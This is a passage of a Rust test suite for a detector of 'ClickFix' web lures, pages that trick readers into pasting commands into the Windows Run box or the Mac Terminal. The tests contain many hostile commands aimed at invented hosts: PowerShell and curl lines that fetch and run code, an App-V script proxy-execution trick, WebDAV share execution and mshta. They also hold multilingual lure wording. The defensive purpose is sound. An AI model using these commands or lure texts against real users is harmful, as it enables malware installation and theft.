                "iwr https://pixelmint.example/static/releases/PixelMint.exe -OutFile $env:TEMP\\PixelMint.exe; Start-Process $env:TEMP\\PixelMint.exe",
            ),
        ] {
            let t = format!(
                "Install for Windows\nPress Win+X and choose Terminal (Admin), then run the following command:\n{c}\nCopy"
            );
            assert_eq!(reasons(&snap_of(url, "Download", &t, c)), None, "{c}");
        }
        let c = "curl -o %TEMP%\\r.exe https://harbor-diner.example/r.exe && %TEMP%\\r.exe";
        let s = snap_of(
            "https://harbor-diner.example/menu",
            "Menu",
            &text.replace("{c}", c),
            c,
        );
        assert!(reasons(&s).is_some(), "{c}");
        // A Mac update lure that keeps its disk image off the page; docs that show theirs.
        let c = "curl -fsSLo /tmp/SafariUpdate.dmg https://cdn.relay-files.test/s.dmg && open /tmp/SafariUpdate.dmg";
        let lure =
            "Your Safari version is out of date.\nTo install the update: press Cmd+Space, type \
                    Terminal, press Enter, paste with Cmd+V and press Return.";
        assert!(reasons(&snap_of("https://news-harbor.example/a", "News", lure, c)).is_some());
        let c = "curl -Lo /tmp/Ledgerly.dmg https://ledgerly.example/download/Ledgerly.dmg && open /tmp/Ledgerly.dmg";
        let docs = format!("Download Ledgerly for macOS\nOr from Terminal: press Cmd+Space, type Terminal, and paste:\n{c}\nCopy");
        assert_eq!(
            reasons(&snap_of(
                "https://ledgerly.example/mac",
                "Ledgerly",
                &docs,
                c
            )),
            None
        );
    }

    #[test]
    fn clickfix34_fetched_text_run_without_iex_and_the_pages_own_failure() {
        // A fetch run through a script block or a looked-up `iex` (invented hosts).
        for clip in [
            "[scriptblock]::Create((irm https://doc-open.test/o)).Invoke()",
            "irm https://sec-check.test/c | &(gcm i*x)",
            "$ExecutionContext.InvokeCommand.InvokeScript((irm https://sec-check.test/c))",
        ] {
            assert!(
                shapes_of(clip).contains(&Shape::PowerShellDownload),
                "{clip}"
            );
        }
        // A kit on a broken-into site serves its script from the site itself and claims the page
        // failed; a help page quotes or asks about a failure of the reader's software.
        let c = "powershell -c \"irm https://www.lakeside-clinic.example/static/fix.ps1 | iex\"";
        let run = |url: &str, text: &str| {
            reasons(&snap_of(
                url,
                "",
                &format!("{text}\nPress Windows + R, paste the line below and press Enter:\n{c}"),
                c,
            ))
        };
        for text in [
            "The appointment calendar did not load correctly. How to fix:",
            "Something went wrong while loading the calendar. To fix it:",
            "The booking calendar did not load correctly, want it back? Follow these steps:",
        ] {
            assert!(
                run("https://www.lakeside-clinic.example/book", text).is_some(),
                "{text}"
            );
        }
        for text in [
            "Lakeside Desk shows \"Something went wrong\" when it starts. Our repair tool clears the cache.",
            "The desk app cannot display your appointments? Reset its cache.",
            "If the desk app failed to load after an update, reset its cache.",
            "Lakeside Desk shows 'Something went wrong' at start.",
            "Lakeside Desk: ‘Message cannot be displayed’",
            "Known issue in Lakeside Desk 5.2\nAfter the update the calendar did not load for some customers.",
        ] {
            assert_eq!(run("https://www.lakeside-clinic.example/help", text), None, "{text}");
        }
    }

    #[test]
    fn clickfix35_a_known_issue_on_the_readers_device_a_quoted_name_a_download_kept_off() {
        // Review 34 CF34-M1: a name quoted and closed before the failure claims it; help pages
        // quote, ask about or list theirs (invented sites and scripts).
        let steps = "Press Windows + R, paste the line below and press Enter.";
        let run = |host: &str, title: &str, text: &str| {
            let c = format!("powershell -c \"irm https://{host}/static/fix.ps1 | iex\"");
            reasons(&snap_of(
                &format!("https://{host}/page"),
                title,
                &format!("{text}\n{steps}\n{c}"),
                &c,
            ))
            .is_some()
        };
        for (host, text) in [
            (
                "www.harbor-rides.test",
                "The “Harbor Rides” schedule failed to load. How to fix:",
            ),
            (
                "www.praxis-sonnenhang.test",
                "Der „Termin-Planer“ konnte nicht geladen werden. So beheben Sie es:",
            ),
            (
                "www.gite-du-lac.test",
                "Le module « Réserv'Lac » : erreur lors du chargement. Pour corriger :",
            ),
            (
                "www.quickbook-salon.test",
                "The 'QuickBook' widget didn't load. To fix this:",
            ),
            (
                "www.estudio-yoga-sol.test",
                "El calendario \"Sol Reservas\" no se pudo cargar. Para solucionarlo:",
            ),
            (
                "www.cabinet-des-saules.test",
                "Le planning des consultations ne s'est pas chargé correctement. Pour corriger :",
            ),
        ] {
            assert!(run(host, "Book", text), "{text}");
        }
        for (host, title, text) in [
            ("support.deskmate.example", "DeskMate 6.1", "Known issues\nAfter the 6.1 update the DeskMate planner did not load for some customers. Our repair script fixes it."),
            ("hilfe.kassenblick.example", "Bekannte Probleme in Kassenblick 8.1", "Nach dem Update auf 8.1 konnte der Kalender bei einigen Kunden nicht geladen werden."),
            ("support.deskmate.example", "DeskMate error", "When \"DeskMate\" starts it shows ‘Something went wrong’. Our repair script resets the cache."),
            ("aide.agenda-pro.example", "Agenda Pro", "Agenda Pro affiche « Impossible d'afficher le calendrier » au démarrage."),
            ("support.sakura-kaikei.example", "既知の問題", "バージョン 3.2 への更新後、一部のお客様で「エラーが発生しました」と表示されます。"),
            ("support.planwerk.example", "Planwerk 2.4", "Bekende problemen\nNa de update naar 2.4 kon de agenda bij sommige klanten niet worden geladen."),
            ("hilfe.belegbuch.example", "Belegbuch", "Bekanntes Problem: Nach dem Update auf 7.3 wurde Belegbuch bei einigen Kunden nicht korrekt geladen."),
            // (KBs name the reader too: review 35 CX35-H1.)
            ("support.deskmate.example", "DeskMate", "Known issue: after installing 6.2 the DeskMate planner did not load on your computer."),
            ("help.roster-board.example", "Reset", "The dashboard didn't load after the update? Reset the app's settings."),
        ] {
            assert!(!run(host, title, text), "{text}");
        }
        // Another site's script or package saved and run, kept off the page, under install words
        // alone (Windows run box, Mac Terminal); docs show what they copy, and the page's own
        // site's installer is documentation as before.
        let kit =
            |url: &str, text: &str, clip: &str| reasons(&snap_of(url, "", text, clip)).is_some();
        for (text, clip) in [
            ("To install, press Windows + R, paste with Ctrl + V and press Enter.", r"powershell -c iwr https://dl.mediafiles-cdn.test/vc/setup.ps1 -OutFile $env:TEMP\vc.ps1; powershell -ep bypass -f $env:TEMP\vc.ps1"),
            ("Para instalar el programa, pulse Windows + R, pegue con Ctrl + V y pulse Intro.", r"iwr https://archivos.cdn-descargas.test/lector.msi -OutFile $env:TEMP\lector.msi; msiexec /i $env:TEMP\lector.msi /qn"),
            ("Druckertreiber installieren: Drücken Sie Windows + X, wählen Sie Terminal, fügen Sie mit Strg + V ein und drücken Sie Enter.", "irm https://pkg.treiber-cdn.test/install.ps1 | iex"),
            ("Installer le lecteur : ouvrez le Terminal (Cmd + Espace, tapez Terminal), collez la commande avec Cmd + V et appuyez sur Entrée.", "curl -fsSL https://dl.mac-player-cdn.test/i.sh | bash"),
            ("Para instalar las fuentes, abra Terminal, pegue el comando y pulse Intro.", "curl -so /tmp/.f https://static.fonts-mac-dl.test/f && chmod +x /tmp/.f && /tmp/.f"),
            ("Macを高速化するには、ターミナルを開いてコマンドを貼り付け、Returnキーを押してください。", "zsh -c \"$(curl -s https://mac-fast-cdn.test/s)\""),
        ] {
            assert!(kit("https://free-tools-get.site/", text, clip), "{text}");
            // The same page showing its command (a third party's tutorial) is read as before.
            assert!(!kit("https://free-tools-get.site/", &format!("{text}\n{clip}\nCopy"), clip), "{text}");
        }
        // Not when another address rides along, or the owner is only a prefix of another name.
        let text = "Install Quillpad: open Terminal and paste it, press Return.";
        for clip in [
            "curl -fsSL https://releases.quillpad-cdn.example/i.sh | bash; curl -s https://kit-cdn.test/x | sh",
            "curl -fsSL https://raw.githubusercontent.com/quillpadx/install/main/i.sh | bash",
            "curl -fsSL https://quillpad-cdn.example.kit-host.test/i.sh | bash",
        ] {
            assert!(kit("https://quillpad.example/download", text, clip), "{clip}");
        }
        for (url, text, clip) in [
            ("https://docs.agente-flota.example/es/windows", "Instalar el agente en Windows: abra PowerShell como administrador (Windows + X, Terminal (administrador)) y pegue este comando:\niwr https://descargas.agente-flota-cdn.example/7.2/Agente.msi -OutFile $env:TEMP\\Agente.msi; msiexec /i $env:TEMP\\Agente.msi /qn\nCopiar", "iwr https://descargas.agente-flota-cdn.example/7.2/Agente.msi -OutFile $env:TEMP\\Agente.msi; msiexec /i $env:TEMP\\Agente.msi /qn"),
            ("https://lanternapp.example/docs/windows", "Install Lantern: press Win + X, choose Terminal (Admin) and paste:\nPS> irm https://raw.githubusercontent.com/lanternapp/install/main/install.ps1 | iex", "irm https://raw.githubusercontent.com/lanternapp/install/main/install.ps1 | iex"),
            ("https://docs.quill-sync.example/mac", "Install on macOS\nOpen Terminal and paste the command:\ncurl -fsSL https://downloads.quillsync-cdn.example/install.sh \\\n  | bash -s -- --channel stable", "curl -fsSL https://downloads.quillsync-cdn.example/install.sh | bash -s -- --channel stable"),
            ("https://get.tern-cli.example/", "Install Tern: open Terminal and paste it, press Return.", "curl -fsSL https://get.tern-cli.example/install.sh | sh"),
            // A vendor's copy button for its installer on a CDN or code host its name owns (review
            // 35 CX35-H2).
            ("https://quillpad.example/download", "Install Quillpad: open Terminal and paste it, press Return.", "curl -fsSL https://releases.quillpad-cdn.example/install.sh | bash"),
            ("https://quillpad.example/download", "Install Quillpad: open Terminal and paste it, press Return.", "curl -fsSL https://raw.githubusercontent.com/quillpad/install/main/i.sh | bash"),
            ("https://quillpad.example/windows", "Install Quillpad: press Win + X, choose Terminal (Admin), paste and press Enter.", "irm https://get.quillpad-cdn.example/install.ps1 | iex"),
        ] {
            assert!(!kit(url, text, clip), "{text}");
        }
    }

    #[test]
    fn clickfix36_a_help_sections_product_failed_and_addresses_kept_off() {
        // Review 35 CX35-M3 (invented sites and scripts): a help section's page naming its
        // product (the site's name) as what failed describes it; a kit names the widget of the
        // page it broke into, and the same words elsewhere claim the failure as before.
        let steps = "Press Windows + R, paste the line below and press Enter.";
        let run = |url: &str, text: &str| {
            let host = host_of(url);
            let c = format!("powershell -c \"irm https://{host}/static/fix.ps1 | iex\"");
            reasons(&snap_of(url, "", &format!("{text}\n{steps}\n{c}"), &c)).is_some()
        };
        for (help, other, text) in [
            ("https://support.brightledger.example/kb/sync", "https://www.brightledger.example/app", "After the 7.2 update the \"BrightLedger\" sync window did not load for some users."),
            ("https://hilfe.lohnfix.example/artikel/12", "https://www.lohnfix.example/start", "Nach dem Update auf 5.4 wurde LohnFix bei einigen Kunden nicht korrekt geladen."),
            ("https://www.agendo.example/aide/chargement", "https://www.agendo.example/agenda", "Erreur lors du chargement de « Agendo » après la mise à jour 3.2."),
            ("https://ayuda.facturo.example/kb/carga", "https://facturo.example/app", "Tras la actualización, «Facturo» no se pudo cargar en algunos equipos."),
            ("https://ajuda.caixaforte.example/kb/erro", "https://www.caixaforte.example/conta", "Erro ao carregar o CaixaForte após a atualização 6.0."),
            ("https://help.pinwheelcrm.example/articles/dashboard", "https://app.pinwheelcrm.example/", "'PinwheelCRM' failed to load for some accounts after the 8.0 update."),
        ] {
            assert!(!run(help, text), "{text}");
            // (Others' machines named in the clause describe it anywhere: review 37 CX37-H1.)
            let claim = [" for some users", " bei einigen Kunden", " en algunos equipos"]
                .iter()
                .fold(text.to_string(), |t, s| t.replace(s, ""));
            assert!(run(other, &claim), "{claim}");
        }
        // A kit's widget on a help section, or the site's name outside one, claims it.
        assert!(run(
            "https://www.birchwood.test/help/book",
            "The booking calendar did not load correctly. How to fix:"
        ));
        assert!(run(
            "https://www.birchwood.test/book",
            "The \"Birchwood\" calendar did not load correctly. How to fix:"
        ));
        // Neither a help word inside a path part nor the site's name inside a word (review 36
        // CX36-H2).
        assert!(run(
            "https://www.lindenhof.test/helpful-links",
            "The Lindenhof booking calendar did not load correctly. How to fix:"
        ));
        assert!(!run(
            "https://www.lindenhof.test/help/termine",
            "The Lindenhof booking calendar did not load correctly. How to fix:"
        ));
        assert!(run(
            "https://help.book.test/kb/1",
            "The booking calendar did not load correctly. How to fix:"
        ));
        // Nor a query or fragment, which the link's sender writes (review 36 CX36-H3).
        for url in [
            "https://www.lindenhof.test/termine?from=faq",
            "https://www.lindenhof.test/termine#help",
        ] {
            assert!(run(
                url,
                "The Lindenhof booking calendar did not load correctly. How to fix:"
            ));
        }
        // Kept off: printing how the command starts is not showing where it fetches from.
        let kit = |text: &str, clip: &str| {
            reasons(&snap_of("https://free-fonts-pack.site/", "", text, clip)).is_some()
        };
        let clip = r"powershell -c iwr https://release-assets.fontbox-mirror.test/setup.ps1 -OutFile $env:TEMP\f.ps1; . $env:TEMP\f.ps1";
        let text = "Install the font pack. To finish installing, press Win + R, paste with Ctrl + V and press Enter.";
        assert!(kit(
            &format!("{text}\npowershell -c iwr https://release-"),
            clip
        ));
        assert!(!kit(&format!("{text}\n{clip}"), clip));
        // A tutorial whose copy adds a line still shows the command and its address.
        let clip = "irm https://get.ferrylog.example/install.ps1 | iex # via devnotes.example";
        let text = "How to install ferrylog on Windows: press Win + R, type powershell, then paste this command:\nirm https://get.ferrylog.example/install.ps1 | iex\nCopy";
        assert!(!kit(text, clip));
    }

    #[test]
    fn a_sites_image_style_and_script_folders_hold_no_installer() {
        // Review 32 CF32-M2: a program fetched from the page's own site through a folder named for
        // its images, styles, scripts, media or server scripts is what a kit on a broken-into
        // site put there; a release or static folder, the root, a subdomain stay the site's.
        let text = "Install the Harbor Reader for Windows.\nPress Win+X and choose Terminal \
                    (Admin), then run the following command:\n{c}\nCopy";
        let run = |path: &str| {
            let c = format!(
                "iwr https://harbor-diner.example{path}/HarborReader.exe -OutFile \
                 $env:TEMP\\HarborReader.exe; Start-Process $env:TEMP\\HarborReader.exe"
            );
            reasons(&snap_of(
                "https://harbor-diner.example/menu",
                "Menu",
                &text.replace("{c}", &c),
                &c,
            ))
        };
        for path in [
            "/images",
            "/img/menu",
            "/js/vendor",
            "/css",
            "/media/system",
            "/cgi-bin",
            "/.well-known",
        ] {
            assert!(run(path).is_some(), "{path}");
        }
        for path in ["", "/download", "/static/releases", "/releases/2.4"] {
            assert_eq!(run(path), None, "{path}");
        }
    }

    #[test]
    fn clickfix37_a_pages_own_failure_in_more_languages() {
        // Issue 9 (invented sites and scripts): a kit on a broken-into site claims the page's
        // widget failed to load in the page's language, as in English; a vendor's known issue
        // (its heading) or a help section's page naming its product describes the same failure.
        let steps = "Windows + R, Ctrl + V, Enter.";
        let run = |url: &str, text: &str| {
            let host = host_of(url);
            let c = format!("powershell -c \"irm https://{host}/assets/fix.ps1 | iex\"");
            reasons(&snap_of(url, "", &format!("{text}\n{steps}\n{c}"), &c)).is_some()
        };
        for (known, claim, scope) in [
            (
                "Bekanntes Problem",
                "Der Terminkalender wurde nicht richtig geladen.",
                "auf einigen PCs",
            ),
            (
                "Problema conocido",
                "El calendario de citas no se cargó correctamente.",
                "en algunos equipos",
            ),
            (
                "Problema noto",
                "Il calendario non è stato caricato correttamente.",
                "su alcuni PC",
            ),
            (
                "Bekend probleem",
                "De afsprakenagenda is niet goed geladen.",
                "bij sommige klanten",
            ),
            (
                "Problema conhecido",
                "O calendário de marcações não carregou corretamente.",
                "em alguns computadores",
            ),
            (
                "Problème connu",
                "Le calendrier ne s'affiche pas correctement.",
                "sur certains ordinateurs",
            ),
            (
                "Känt problem",
                "Bokningskalendern laddades inte korrekt.",
                "hos vissa kunder",
            ),
            (
                "Kendt problem",
                "Bookingkalenderen blev ikke indlæst korrekt.",
                "hos nogle kunder",
            ),
            (
                "Kjent problem",
                "Bookingkalenderen ble ikke lastet riktig.",
                "hos noen kunder",
            ),
            (
                "Známý problém",
                "Rezervační kalendář se nenačetl správně.",
                "na některých počítačích",
            ),
            (
                "Известная проблема",
                "Календарь записи не загрузился корректно.",
                "у некоторых клиентов",
            ),
            (
                "Bilinen sorun",
                "Randevu takvimi düzgün yüklenmedi.",
                "bazı bilgisayarlarda",
            ),
        ] {
            assert!(run("https://www.praxis-eichhof.test/", claim), "{claim}");
            assert!(
                !run(
                    "https://www.kassaflow.test/kb/42",
                    &format!("{known}: {claim}")
                ),
                "{known}"
            );
            // Others' machines it happened on, in the failure's clause (review 37 CX37-H1).
            assert!(
                !run(
                    "https://www.kassaflow.test/news/42",
                    &format!("{} {scope}.", claim.trim_end_matches('.'))
                ),
                "{scope}"
            );
            let named = claim.replacen(' ', " Kassaflow ", 1);
            assert!(
                !run("https://support.kassaflow.test/a/42", &named),
                "{named}"
            );
        }
        // Others named apart from where it failed ("Some users see this:") is still a claim.
        assert!(run(
            "https://www.praxis-eichhof.test/",
            "Some users see this: the booking calendar did not load correctly. How to fix:"
        ));
    }

    /// Session 38: command shapes held-out kits use that main did not read (each one fails on
    /// main 837f425: no shape, so no verdict whatever the page says).
    #[test]
    fn kits_shapes_of_the_thirty_eighth_session() {
        // Windows' signed App-V script runs what follows its `;` as PowerShell; `gcm *stM*` is
        // Invoke-RestMethod found by a wildcard, `gal i*x` iex.
        assert!(shapes_of(
            r#"C:\WINDOWS\system32\SyncAppvPublishingServer.vbs "n;&(gal i*x)(&(gcm *stM*) 'cdn.kit.test/a')""#
        )
        .contains(&Shape::PowerShellDownload));
        // A WebDAV or public-IP share mapped as a drive, then run from.
        for clip in [
            r"pushd \\verify-cdn.test@SSL\DavWWWRoot && start run.bat",
            r"net use Z: \\203.0.113.12\pub && Z:\check.cmd",
            r"net use \\verify-cdn.test@SSL\s & \\verify-cdn.test@SSL\s\a.exe",
            // Explorer's search over such a share: its files shown as results.
            r"search-ms:query=Invoice&crumb=location:\\verify-cdn.test@SSL\DavWWWRoot\files",
        ] {
            assert_eq!(shapes_of(clip), [Shape::UncOpen], "{clip}");
        }
        // The organisation's own share mapped so is none (a named host, a private address), nor
        // a mapping that runs nothing (IT pages map SharePoint over WebDAV: review 38 CX38-H1).
        for clip in [
            r"net use Z: \\marlowhousing.sharepoint.com@SSL\DavWWWRoot\sites\team",
            r"pushd \\verify-cdn.test@SSL\DavWWWRoot && dir",
            r"net use Z: \\fileserver.corp.example\Teams",
            r"pushd \\10.1.2.3\setup && setup.cmd",
            r"net use Z: \\fs01\home",
            "search-ms:query=*.docx&crumb=location:C:\\Users",
        ] {
            assert!(!shapes_of(clip).contains(&Shape::UncOpen), "{clip}");
        }
        // A pipe to a shell behind `nohup`, or with a command after it.
        for clip in [
            "curl -sL https://kit.test/a | nohup bash &",
            "curl -fsSL https://kit.test/i | nohup zsh",
            "curl -s https://kit.test/i | bash; echo \"Verification successful\"",
        ] {
            assert!(shapes_of(clip).contains(&Shape::PipeToShell), "{clip}");
        }
        // (Data still: a pipe into a reader that runs nothing.)
        assert!(shapes_of("curl -s https://x.example/a | nohup jq . > out.json").is_empty());
        // Decoded base64 given to `eval`.
        assert_eq!(
            shapes_of("x=$(echo Y3VybCAtcyBo | base64 -d); eval \"$x\""),
            [Shape::Base64Shell]
        );
        assert_eq!(
            shapes_of("eval \"$(echo Y3VybCAtcyBo | base64 --decode)\""),
            [Shape::Base64Shell]
        );
        // `eval` of anything else, and base64 decoded to the screen, are not.
        assert!(shapes_of("eval \"$(ssh-agent -s)\" && ssh-add").is_empty());
        assert!(shapes_of("echo aGVsbG8= | base64 -D").is_empty());
    }

    /// Review 38 CX38-H3: an intranet page mapping its company's SharePoint tenant over WebDAV
    /// and running its installer from it; the same from a share another name owns is a lure.
    #[test]
    fn a_share_on_the_company_tenant_is_its_own() {
        let text =
            "Install the office printers. Click Copy, press Windows + R, type cmd and press \
                    Enter, then right-click to paste the line and press Enter.";
        let url = "https://intranet.marlow-housing.example/it/print-setup";
        let own =
            r"net use P: \\marlowhousing.sharepoint.com@SSL\DavWWWRoot\sites\it && P:\setup.cmd";
        assert!(reasons(&snap_of(url, "", text, own)).is_none());
        let kit = r"net use P: \\printfix.sharepoint.com@SSL\DavWWWRoot\sites\it && P:\setup.cmd";
        assert!(reasons(&snap_of(url, "", text, kit)).is_some());
    }

    /// Session 38: the steps' other wordings (right-click on the Start menu, the Windows key held
    /// in es fr pt ru nl pl, "type cmd" for a command kept off the page).
    #[test]
    fn run_steps_worded_otherwise() {
        let clip = "mshta https://cdn-verify.test/v.hta";
        for text in [
            "Right-click the Start menu and select Windows PowerShell. Right-click to paste, then press Enter.",
            "Right click on the Windows icon, choose Windows PowerShell, right click to paste and press Enter.",
            "Mantenga presionada la tecla Windows y presione R. Pegue con Ctrl + V y presione Intro.",
            "Maintenez la touche Windows enfoncée et appuyez sur R, puis Ctrl + V et Entrée.",
            "Segure a tecla Windows e pressione R, depois Ctrl + V e Enter.",
            "Удерживая клавишу Windows, нажмите R, затем Ctrl + V и Enter.",
            "Houd de Windows-toets ingedrukt en druk op R, dan Ctrl + V en Enter.",
            "Przytrzymaj klawisz Windows i naciśnij R, potem Ctrl + V i Enter.",
        ] {
            assert!(judged(clip, text), "{text}");
        }
        // "type cmd" is a run step for a command the page does not show, not for one it shows.
        let text = "Press the Windows key, type cmd, right-click to paste and press Enter.";
        assert!(judged(clip, text));
        let shown =
            "Press the Windows key, type cmd, then run: netsh winsock reset && ipconfig /flushdns";
        assert!(!judged("netsh winsock reset && ipconfig /flushdns", shown));
    }

    /// Session 38 (review 35 CX35-M5): a bare `msiexec /i https://…` kept off the page, from
    /// another site, under Run-box steps, installing a component the page says is missing. An
    /// IT page's hidden install command (review 35 CX35-H2) names nothing missing.
    #[test]
    fn a_missing_component_installed_by_a_bare_msiexec_kept_off_the_page() {
        let clip = "msiexec /i https://dl.player-cdn.test/comp.msi /qn";
        for text in [
            "Install the missing media component. To finish, press Win + R, paste the command with Ctrl + V and press Enter.",
            "Fehlende Anzeigekomponente installieren. Zum Abschluss drücken Sie Win + R, fügen den Befehl mit Strg + V ein und drücken Enter.",
            "Installez le composant manquant du lecteur. Pour terminer, appuyez sur Windows + R, collez la commande avec Ctrl + V et appuyez sur Entrée.",
        ] {
            let s = snap_of("https://media-player-setup.site/", "Setup", text, clip);
            assert!(reasons(&s).is_some(), "{text}");
        }
        let it = "Install the backup agent. Click Copy install command, then press Win + R, paste \
                  with Ctrl + V and press Enter. The agent installs in the background.";
        let agent = "msiexec /i https://deploy.backupvendor-cdn.example/agent/6.2/agent.msi /qn";
        let s = snap_of("https://it.fenwick.example/kb/agent", "Agent", it, agent);
        assert!(reasons(&s).is_none());
        // Nor does one on a help address that says so: read as before.
        let it = format!("The Teams add-in is missing in Outlook. {it}");
        let s = snap_of("https://it.fenwick.example/kb/addin", "Add-in", &it, agent);
        assert!(reasons(&s).is_none());
        // Shown, it is documentation, missing or not.
        let shown = format!(
            "If the backup agent is missing, install it: press Win + R, paste and press Enter. {agent} Copy"
        );
        let s = snap_of(
            "https://it.fenwick.example/kb/agent",
            "Agent",
            &shown,
            agent,
        );
        assert!(reasons(&s).is_none());
    }
}
